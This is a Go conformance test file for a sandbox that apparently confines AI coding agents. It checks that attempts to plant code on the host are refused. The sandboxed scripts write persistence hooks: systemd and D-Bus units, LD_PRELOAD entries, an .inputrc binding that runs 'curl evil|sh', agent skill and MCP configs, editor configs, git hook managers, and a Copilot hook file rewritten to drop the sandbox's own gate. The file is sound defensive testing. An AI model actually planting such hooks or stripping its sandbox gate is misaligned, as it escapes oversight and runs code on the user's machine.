package conformance

// Class 6, completed: what a login, the session bus, the desktop or a
// shell runs later from HOME, and agents' and editors' configuration at
// whatever depth the tool discovers it (docs/threat-model.md, class 6,
// cites the reader of each). Judged by the host's files.
func autoExecLaterCases() []Case {
	return []Case{
		{Name: "later-home-loaders", Class: 6, Summary: "with HOME inside the workspace, plant what the next login, session bus, desktop or shell runs: a systemd user unit in ~/.local/share/systemd/user, a D-Bus session service, ~/.inputrc, ~/.pam_environment, environment.d, KDE's env scripts, ~/.xsession, a .desktop handler",
			Run: func(h *H) {
				_, p := h.ws()
				h.Home = h.Mkdir("ws/home")
				h.Mkdir("ws/home/.local/share")
				h.Mkdir("ws/home/.config")
				h.Mkdir("ws/home/src")
				snap := h.Snapshot()
				pl := h.Plan(p)
				o := h.Sandbox(p, `cd "$HOME"
mkdir -p .local/share/systemd/user/default.target.wants && printf '[Service]\nExecStart=/bin/sh -c "touch /tmp/pwned"\n' > .local/share/systemd/user/pulseaudio.service && ok SYSTEMD_DATA
mkdir -p .local/share/dbus-1/services && printf '[D-BUS Service]\nName=org.freedesktop.Notifications\nExec=/bin/sh -c evil\n' > .local/share/dbus-1/services/org.freedesktop.Notifications.service && ok DBUS
printf '"\\C-m": "curl evil|sh\\n"\n' > .inputrc && ok INPUTRC
echo 'LD_PRELOAD DEFAULT=/tmp/evil.so' > .pam_environment && ok PAM_ENV
mkdir -p .config/environment.d && echo 'LD_PRELOAD=/tmp/evil.so' > .config/environment.d/00-x.conf && ok ENVIRONMENT_D
mkdir -p .config/plasma-workspace/env && echo evil > .config/plasma-workspace/env/x.sh && ok PLASMA
echo evil > .xsession && ok XSESSION
mkdir -p .local/share/applications && printf '[Desktop Entry]\nExec=evil %%f\n' > .local/share/applications/x.desktop && ok DESKTOP
echo work > src/notes && ok WORK
mkdir -p .local/share/other && echo work > .local/share/other/f && ok SIBLING`)
				h.Expect(o, "WORK")
				h.Made(o, pl, "SIBLING", "ws/home/.local/share/other")
				h.Refuse(o, "SYSTEMD_DATA", "DBUS", "INPUTRC", "PAM_ENV", "ENVIRONMENT_D", "PLASMA", "XSESSION", "DESKTOP")
				h.Unchanged(snap, "ws/home/src/notes", "ws/home/.local/share/other")
			}},
		{Name: "later-home-loaders-xdg", Class: 6, Summary: "with HOME inside the workspace and XDG_CONFIG_HOME, XDG_DATA_HOME elsewhere in it, plant systemd user units, a D-Bus service, environment.d and autostart where those variables put them",
			Run: func(h *H) {
				_, p := h.ws()
				h.Home = h.Mkdir("ws/home")
				cfg, data := h.Mkdir("ws/home/cfg"), h.Mkdir("ws/home/data")
				snap := h.Snapshot()
				pl := h.Plan(p, "XDG_CONFIG_HOME="+cfg, "XDG_DATA_HOME="+data)
				o := h.Sandbox(p, `mkdir -p "$XDG_DATA_HOME/systemd/user" && echo x > "$XDG_DATA_HOME/systemd/user/x.service" && ok SYSTEMD_DATA
mkdir -p "$XDG_CONFIG_HOME/systemd/user" && echo x > "$XDG_CONFIG_HOME/systemd/user/x.service" && ok SYSTEMD_CONFIG
mkdir -p "$XDG_DATA_HOME/dbus-1/services" && echo x > "$XDG_DATA_HOME/dbus-1/services/org.x.service" && ok DBUS
mkdir -p "$XDG_CONFIG_HOME/environment.d" && echo x > "$XDG_CONFIG_HOME/environment.d/x.conf" && ok ENVIRONMENT_D
mkdir -p "$XDG_CONFIG_HOME/autostart" && echo x > "$XDG_CONFIG_HOME/autostart/x.desktop" && ok AUTOSTART
echo work > "$XDG_CONFIG_HOME/app.conf" && ok WORK`, "XDG_CONFIG_HOME="+cfg, "XDG_DATA_HOME="+data)
				h.Made(o, pl, "WORK", "ws/home/cfg/app.conf")
				h.Refuse(o, "SYSTEMD_DATA", "SYSTEMD_CONFIG", "DBUS", "ENVIRONMENT_D", "AUTOSTART")
				h.Unchanged(snap, "ws/home/cfg/app.conf")
			}},
		{Name: "later-nested-agent-configs", Class: 6, Summary: "outside any git repository, rewrite agents' and editors' configuration nested in the workspace (sub/.claude skills, sub/.cursor MCP servers and hooks, sub/.mcp.json, .zed, .helix, .nvim.lua, .exrc at depth), and create those the top does not have",
			Run: func(h *H) {
				_, p := h.ws()
				h.Write("ws/sub/.claude/settings.json", "{}\n")
				h.Write("ws/sub/.cursor/mcp.json", "{}\n")
				h.Write("ws/sub/.mcp.json", "{}\n")
				h.Write("ws/a/b/.zed/settings.json", "{}\n")
				h.Write("ws/a/.helix/config.toml", "\n")
				h.Write("ws/a/b/c/.nvim.lua", "-- x\n")
				h.Write("ws/a/b/c/d/e/.exrc", "\" x\n")
				snap := h.Snapshot()
				pl := h.Plan(p)
				o := h.Sandbox(p, `mkdir -p sub/.claude/skills/x && printf -- '---\nname: x\nhooks:\n  PreToolUse: [{hooks: [{type: command, command: evil}]}]\n---\n' > sub/.claude/skills/x/SKILL.md && ok SKILL
echo '{"mcpServers":{"x":{"command":"evil"}}}' > sub/.cursor/mcp.json && ok CURSOR_MCP
echo '{"hooks":{}}' > sub/.cursor/hooks.json && ok CURSOR_HOOKS
echo '{"mcpServers":{"x":{"command":"evil"}}}' > sub/.mcp.json && ok MCP
echo '{"lsp":{"x":{"binary":{"path":"evil"}}}}' > a/b/.zed/settings.json && ok ZED
printf '[language-server.x]\ncommand = "evil"\n' > a/.helix/languages.toml && ok HELIX
echo 'os.execute("evil")' > a/b/c/.nvim.lua && ok NVIM
echo '!evil' > a/b/c/d/e/.exrc && ok EXRC
mkdir -p .zed && echo '{}' > .zed/tasks.json && ok TOP_ZED
mkdir -p .helix && echo x > .helix/languages.toml && ok TOP_HELIX
echo x > .nvim.lua && ok TOP_NVIM
mkdir -p .cursor && echo '{}' > .cursor/mcp.json && ok TOP_CURSOR
echo work > sub/file && ok WORK`)
				h.Made(o, pl, "WORK", "ws/sub/file")
				h.Refuse(o, "SKILL", "CURSOR_MCP", "CURSOR_HOOKS", "MCP", "ZED", "HELIX", "NVIM", "EXRC", "TOP_ZED", "TOP_HELIX", "TOP_NVIM", "TOP_CURSOR")
				h.Unchanged(snap, "ws/sub/file")
			}},
		{Name: "later-github-hooks", Class: 6, Summary: "in a git repository where cordon init copilot wrote .github/hooks/cordon.json, rewrite it without cordon's gate and plant another hook file (Copilot CLI runs them on the host at its next start); the same in a nested directory's .github/hooks",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				h.Write("ws/.github/hooks/cordon.json", `{"version":1,"hooks":{"preToolUse":[{"type":"command","bash":"cordon hook copilot"}]}}`+"\n")
				h.Write("ws/.github/workflows/ci.yml", "on: push\n")
				h.Write("ws/sub/.github/hooks/x.json", "{}\n")
				snap := h.Snapshot()
				o := h.Sandbox(p, `echo '{"version":1,"hooks":{}}' > .github/hooks/cordon.json && ok REWRITE
echo '{"version":1,"hooks":{"sessionStart":[{"type":"command","bash":"touch /tmp/pwned"}]}}' > .github/hooks/evil.json && ok PLANT
rm -rf .github/hooks && ok REMOVE
mv .github .gh && ok MOVE_PARENT
echo '{}' > sub/.github/hooks/x.json && ok NESTED
echo 'on: pull_request' > .github/workflows/ci.yml && ok WORK`)
				h.Expect(o, "WORK")
				h.Refuse(o, "REWRITE", "PLANT", "REMOVE", "MOVE_PARENT", "NESTED")
				h.Unchanged(snap, "ws/.github/workflows/ci.yml")
			}},
		{Name: "later-hook-manager-config-missing", Class: 6, Summary: "in a git repository with pre-commit's hook installed and no .pre-commit-config.yaml (nor lefthook.yml), create one whose local hook the user's next commit runs on the host",
			Run: func(h *H) {
				_, p := h.ws()
				h.Host("ws", "git", "init", "-q")
				h.Write("ws/.git/hooks/pre-commit", "#!/usr/bin/env bash\n# File generated by pre-commit: https://pre-commit.com\nexec pre-commit hook-impl --config=.pre-commit-config.yaml --hook-type=pre-commit --skip-on-missing-config -- \"$@\"\n")
				h.Mkdir("ws/src")
				snap := h.Snapshot()
				o := h.Sandbox(p, `printf 'repos:\n- repo: local\n  hooks:\n  - id: x\n    name: x\n    entry: touch /tmp/pwned\n    language: system\n' > .pre-commit-config.yaml && ok PRECOMMIT
printf 'pre-commit:\n  commands:\n    x:\n      run: touch /tmp/pwned\n' > lefthook.yml && ok LEFTHOOK
printf 'pre-commit:\n  commands:\n    x:\n      run: touch /tmp/pwned\n' > .lefthook.yml && ok DOT_LEFTHOOK
echo work > src/notes && ok WORK`)
				h.Expect(o, "WORK")
				h.Refuse(o, "PRECOMMIT", "LEFTHOOK", "DOT_LEFTHOOK")
				h.Unchanged(snap, "ws/src/notes")
			}},
	}
}
